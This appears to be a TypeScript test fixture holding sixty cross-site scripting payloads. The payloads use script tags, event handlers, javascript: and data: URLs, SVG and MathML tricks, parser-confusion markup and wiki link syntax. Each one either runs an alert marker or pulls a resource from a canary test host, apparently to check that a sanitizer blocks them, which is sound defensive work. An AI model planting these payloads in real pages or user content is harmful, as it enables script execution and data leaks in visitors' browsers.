// Text that tries to act: sixty ways to run a script, open a dialog or tell a strange host who reads.
export const canary = 'canary.stepwright.test'
const run = `window.hacked=1;alert(1)`
const away = `https://${canary}/x`

export const snippets: readonly string[] = [
  `<script>${run}</script>`, `<script src="${away}"></script>`, `<SCRIPT>${run}</SCRIPT>`, `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/src="${away}">`, `<svg><script>${run}</script></svg>`, `<img src=x onerror="${run}">`, `<img src="${away}">`,
  `<img srcset="${away} 1x" src="/x">`, `<img/src=x/onerror=${run}>`, `<IMG SRC=x ONERROR="${run}">`, `<img src="javascript:${run}">`,
  `<svg onload="${run}"></svg>`, `<svg/onload=${run}>`, `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`, `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><image href="${away}"/></svg>`, `<svg><use href="${away}#a"/></svg>`, `<math><mtext><style><img src=x onerror="${run}"></style></mtext></math>`, `<math href="javascript:${run}">x</math>`,
  `<body onload="${run}">`, `<body onpageshow="${run}">`, `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe src="${away}"></iframe>`, `<object data="${away}"></object>`, `<embed src="${away}">`, `<applet code="${away}"></applet>`,
  `<video src="${away}" onerror="${run}" autoplay></video>`, `<audio src=x onerror="${run}"></audio>`, `<video><source onerror="${run}"></video>`, `<video poster="${away}"></video>`,
  `<link rel="stylesheet" href="${away}">`, `<link rel="preload" as="image" href="${away}">`, `<style>@import "${away}";</style>`, `<style>*{background:url(${away})}</style>`,
  `<div style="background:url(${away})">x</div>`, `<p style="width:expression(${run})">x</p>`, `<base href="https://${canary}/">`, `<meta http-equiv="refresh" content="0;url=${away}">`,
  `<form action="${away}"><input autofocus onfocus="${run}"></form>`, `<input autofocus onfocus="${run}">`, `<button formaction="javascript:${run}" autofocus onfocus="${run}">x</button>`, `<select autofocus onfocus="${run}"></select>`,
  `<details open ontoggle="${run}"><summary>x</summary></details>`, `<marquee onstart="${run}">x</marquee>`, `<dialog open>x</dialog><p tabindex=0 autofocus onfocus="${run}">x</p>`, `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`, `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`, `<a href="javascript:${run}" autofocus onfocus="${run}">x</a>`, `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `<a href="java&#9;script:${run}">x</a>`, `<a href="&#1;javascript:${run}">x</a>`, `<a href="vbscript:${run}">x</a>`, `[link|javascript:${run}|x]`,
  `[javascript:${run}|x]`, `[link|data:text/html,<script>${run}</script>|x]`, `[image|1" onerror="${run}]`, `'''<img src=x onerror=${run}>'''[[x" onmouseover="${run}]]`,
]
